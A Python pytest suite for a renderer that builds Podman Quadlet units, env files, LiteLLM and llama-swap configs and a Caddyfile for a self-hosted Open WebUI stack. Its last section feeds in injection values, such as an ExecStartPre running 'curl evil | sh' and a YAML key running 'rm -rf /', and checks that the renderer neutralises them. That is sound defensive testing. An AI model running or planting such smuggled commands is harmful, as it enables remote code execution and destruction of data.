"""Rendering a snapshot: the files, their order and dependencies, and byte-for-byte reproducibility."""

from __future__ import annotations

import copy
import inspect
import json

import jinja2
import pytest
import yaml

from leger.releases import quadlet
from leger.releases.manifest import build_manifest, manifest_json
from leger.releases.rendering import RenderError, caddy_token, make_environment, quote_env, render
from leger.releases.snapshot import CORE_SERVICES, SnapshotError, example_snapshot
from tests.releases.conftest import changed


def reordered(value):
    """The same data with every mapping's keys in reverse insertion order."""
    if isinstance(value, dict):
        return {key: reordered(value[key]) for key in reversed(list(value))}
    if isinstance(value, list):
        return [reordered(item) for item in value]
    return value


def env_file(text: str) -> dict[str, str]:
    pairs = [line.split("=", 1) for line in text.splitlines() if line and not line.startswith("#")]
    names = [name for name, _ in pairs]
    assert len(names) == len(set(names)), "a variable is set twice"
    return dict(pairs)


@pytest.mark.parametrize("kind", ["minimal", "full"])
@pytest.mark.parametrize("exposure", ["port", "path", "subdomain"])
def test_the_same_snapshot_renders_byte_identical_files(kind: str, exposure: str) -> None:
    snapshot = example_snapshot(kind, exposure)
    first = render(snapshot)
    again = render(json.loads(json.dumps(reordered(copy.deepcopy(snapshot)))))
    assert list(first) == list(again)
    assert first == again
    assert manifest_json(build_manifest(snapshot, first)) == manifest_json(build_manifest(snapshot, again))


def test_it_renders_every_file_a_release_needs(full) -> None:
    files = render(full)
    for name in CORE_SERVICES:
        assert f"{name}.container" in files
    for name in ("searxng", "qdrant", "tika", "whisper", "edgetts", "jupyter", "playwright"):
        assert f"{name}.container" in files
    expected = {
        "llm.network",
        "openwebui.env",
        "litellm/config.yaml",
        "llama-swap/config.yaml",
        "Caddyfile",
        "searxng/settings.yml",
        "openwebui-data.volume",
        "openwebui-postgres-data.volume",
        "qdrant-storage.volume",
    }
    assert expected <= set(files)
    assert all(text.endswith("\n") for text in files.values())


def test_a_minimal_release_has_no_add_on(minimal) -> None:
    files = render(minimal)
    assert "searxng.container" not in files and "searxng/settings.yml" not in files
    assert sorted(p for p in files if p.endswith(".container")) == sorted(f"{s}.container" for s in CORE_SERVICES)


def test_units_require_and_follow_what_they_need_by_generated_unit_name(full) -> None:
    files = render(full)
    openwebui = quadlet.parse(files["openwebui.container"])
    requires = set(openwebui.values("Unit", "Requires"))
    after = set(openwebui.values("Unit", "After"))
    assert {
        "llm-network.service",
        "openwebui-data-volume.service",
        "openwebui-postgres.service",
        "openwebui-redis.service",
        "litellm.service",
    } <= requires
    assert requires <= after
    # Add-ons are wanted, not required: Open WebUI still starts when one of them fails.
    assert "searxng.service" in openwebui.values("Unit", "Wants") and "searxng.service" not in requires
    postgres = quadlet.parse(files["openwebui-postgres.container"])
    assert postgres.values("Container", "Notify") == ["healthy"]
    caddy = quadlet.parse(files["caddy.container"])
    assert "openwebui.service" in caddy.values("Unit", "Wants")


def test_open_webui_is_a_single_owner_instance_on_postgres_redis_and_litellm(minimal) -> None:
    files = render(minimal)
    env = env_file(files["openwebui.env"])
    assert env["ENABLE_PERSISTENT_CONFIG"] == "False"
    assert "ENABLE_PERSISTENT_CONFIG=False is deliberate" in files["openwebui.env"]
    assert env["ENABLE_SIGNUP"] == "False" and env["ENABLE_INITIAL_ADMIN_SIGNUP"] == "True"
    assert env["DATABASE_TYPE"] == "postgresql" and env["DATABASE_HOST"] == "openwebui-postgres"
    assert env["WEBSOCKET_MANAGER"] == "redis" and env["REDIS_URL"] == "redis://openwebui-redis:6379/0"
    assert env["OPENAI_API_BASE_URL"] == "http://litellm:4000/v1" and env["ENABLE_OLLAMA_API"] == "False"
    assert env["WEBUI_URL"] == "https://box.tail1234.ts.net:3000"
    unit = quadlet.parse(files["openwebui.container"])
    assert unit.values("Container", "EnvironmentFile") == ["openwebui.env"]
    assert "litellm-master-key,type=env,target=OPENAI_API_KEY" in unit.values("Container", "Secret")


def test_litellm_reads_keys_from_the_environment_and_sends_local_models_to_llama_swap(full) -> None:
    files = render(full)
    config = yaml.safe_load(files["litellm/config.yaml"])
    by_name = {entry["model_name"]: entry["litellm_params"] for entry in config["model_list"]}
    assert by_name["claude-3.5-haiku"] == {
        "model": "anthropic/claude-3.5-haiku",
        "api_key": "os.environ/ANTHROPIC_API_KEY",
    }
    assert by_name["granite-4.0-h-micro"]["api_base"] == "http://llama-swap:8080/v1"
    assert by_name["granite-4.0-h-micro"]["model"] == "openai/granite-4.0-h-micro"
    assert config["general_settings"]["master_key"] == "os.environ/LITELLM_MASTER_KEY"
    litellm = quadlet.parse(files["litellm.container"])
    assert "anthropic-api-key,type=env,target=ANTHROPIC_API_KEY" in litellm.values("Container", "Secret")
    assert "./litellm/config.yaml:/app/config.yaml:ro,Z" in litellm.values("Container", "Volume")


def test_llama_swap_gets_its_own_format(full) -> None:
    config = yaml.safe_load(render(full)["llama-swap/config.yaml"])
    model = config["models"]["granite-4.0-h-micro"]
    assert set(model) == {"name", "cmd", "proxy", "ttl", "aliases"}
    assert "--port ${PORT}" in model["cmd"] and model["proxy"] == "http://127.0.0.1:${PORT}"
    assert "--hf-repo unsloth/granite-4.0-h-micro-GGUF" in model["cmd"] and "--flash-attn on" in model["cmd"]
    assert model["ttl"] == 600 and model["aliases"] == ["granite-micro"]


def test_searxng_answers_json_for_open_webui(full) -> None:
    files = render(full)
    assert "json" in yaml.safe_load(files["searxng/settings.yml"])["search"]["formats"]
    env = env_file(files["openwebui.env"])
    assert env["SEARXNG_QUERY_URL"] == "http://searxng:8080/search?q=<query>"
    assert env["WEB_SEARCH_ENGINE"] == "searxng" and env["ENABLE_WEB_SEARCH"] == "True"


@pytest.mark.parametrize(
    ("exposure", "sites"),
    [
        ("port", ["https://box.tail1234.ts.net:3000 {", "https://box.tail1234.ts.net:9090 {"]),
        ("path", ["https://box.tail1234.ts.net {"]),
        ("subdomain", ["https://ai.home.example.org {", "https://cockpit.home.example.org {"]),
    ],
)
def test_caddy_routes_each_exposed_service_for_the_exposure_mode(exposure: str, sites: list[str]) -> None:
    files = render(example_snapshot("minimal", exposure))
    assert sorted(line for line in files["Caddyfile"].splitlines() if line.startswith("https://")) == sites
    assert "reverse_proxy openwebui:8080" in files["Caddyfile"]
    publish = quadlet.parse(files["caddy.container"]).values("Container", "PublishPort")
    assert (
        publish
        == {
            "port": ["0.0.0.0:3000:3000", "0.0.0.0:9090:9090"],
            "path": ["0.0.0.0:443:443"],
            "subdomain": ["0.0.0.0:80:80", "0.0.0.0:443:443"],
        }[exposure]
    )
    # No other container publishes anything: Caddy is the only way in.
    others = [p for p in files if p.endswith(".container") and p != "caddy.container"]
    assert all(not quadlet.parse(files[p]).values("Container", "PublishPort") for p in others)


def test_a_missing_template_value_is_an_error_not_an_empty_string() -> None:
    template = make_environment().get_template("network/network.network.j2")
    with pytest.raises(jinja2.UndefinedError, match="'network' is undefined"):
        template.render(release={"name": "home", "version": 1, "owner_uuid": "u"})
    with pytest.raises(jinja2.UndefinedError):
        template.render(release={"name": "home", "version": 1}, network={"name": "llm", "subnet": "10.0.0.0/24"})


def test_it_refuses_to_render_an_invalid_snapshot(minimal) -> None:
    with pytest.raises(SnapshotError, match="routes"):
        render(changed(minimal, lambda s: s["routes"][0].update(path="/a b")))


def test_the_renderer_takes_nothing_but_the_snapshot() -> None:
    assert list(inspect.signature(render).parameters) == ["snapshot"]


# --- values that could break out of their file format ----------------------------------------------------------

EVIL = 'x"\n[Service]\nExecStartPre=/bin/sh -c "curl evil | sh"\n%h $HOME\\'


def test_a_line_break_in_the_release_name_cannot_add_a_key_or_section(minimal) -> None:
    files = render(changed(minimal, lambda s: s["release"].update(name=EVIL)))
    for path, text in files.items():
        if path.endswith((".container", ".network", ".volume")):
            unit = quadlet.parse(text)
            assert unit.problems == [], path
            assert [s.name for s in unit.sections] == [s.name for s in quadlet.parse(render(minimal)[path]).sections], (
                path
            )
            assert not list(unit.entries("Service", "ExecStartPre")), path
    label = next(v for v in quadlet.parse(files["openwebui.container"]).values("Container", "Label") if "release=" in v)
    # Quadlet reads the label back whole; %/$ are doubled so systemd gives them back literally.
    assert quadlet.split_words(label) == ["run.leger.release=" + EVIL.replace("%", "%%").replace("$", "$$")]
    for path in ("litellm/config.yaml", "llama-swap/config.yaml"):
        assert set(yaml.safe_load(files[path])) == set(yaml.safe_load(render(minimal)[path])), path
    assert "ExecStartPre" not in "".join(line for line in files["Caddyfile"].splitlines() if not line.startswith("#"))


def test_a_line_break_in_an_open_webui_value_moves_it_to_a_quoted_unit_line(minimal) -> None:
    value = "Home\nENABLE_SIGNUP=True\n[Container]\nImage=evil:1"
    files = render(changed(minimal, lambda s: s["openwebui"].update(WEBUI_NAME=value)))
    env = env_file(files["openwebui.env"])
    assert env["ENABLE_SIGNUP"] == "False" and "WEBUI_NAME" not in env
    unit = quadlet.parse(files["openwebui.container"])
    assert unit.problems == [] and [s.name for s in unit.sections] == ["Unit", "Container", "Service", "Install"]
    assert unit.values("Container", "Image") == ["ghcr.io/open-webui/open-webui:v0.12.4"]
    (line,) = [v for v in unit.values("Container", "Environment") if "WEBUI_NAME" in v]
    assert quadlet.split_words(line) == [f"WEBUI_NAME={value}"]


@pytest.mark.parametrize("value", [" padded ", '"quoted"', "tab\there", "ends with\r"])
def test_values_an_env_file_would_change_are_written_to_the_unit_instead(minimal, value: str) -> None:
    files = render(changed(minimal, lambda s: s["openwebui"].update(WEBUI_NAME=value)))
    assert "WEBUI_NAME" not in env_file(files["openwebui.env"])
    (line,) = [v for v in quadlet.parse(files["openwebui.container"]).values("Container", "Environment")]
    assert quadlet.split_words(line) == [f"WEBUI_NAME={value}"]


def test_a_model_name_cannot_add_a_yaml_key(full) -> None:
    name = "Granite\nmodels:\n  evil: {cmd: 'rm -rf /'}\n"
    files = render(changed(full, lambda s: s["models"][2].update(name=name)))
    config = yaml.safe_load(files["llama-swap/config.yaml"])
    assert set(config) == {"healthCheckTimeout", "logLevel", "models"}
    assert set(config["models"]) == {"granite-4.0-h-micro", "gpt-oss-20b"}
    assert config["models"]["granite-4.0-h-micro"]["name"] == name


def test_caddy_tokens_and_environment_names_refuse_what_would_break_the_file() -> None:
    with pytest.raises(RenderError, match="cannot be written into the Caddyfile"):
        caddy_token("box.ts.net {\n\trespond 200")
    with pytest.raises(RenderError, match="not an environment variable name"):
        quote_env("A=B\nC", "x")
    assert quote_env("A", "100% $5") == '"A=100%% $$5"'
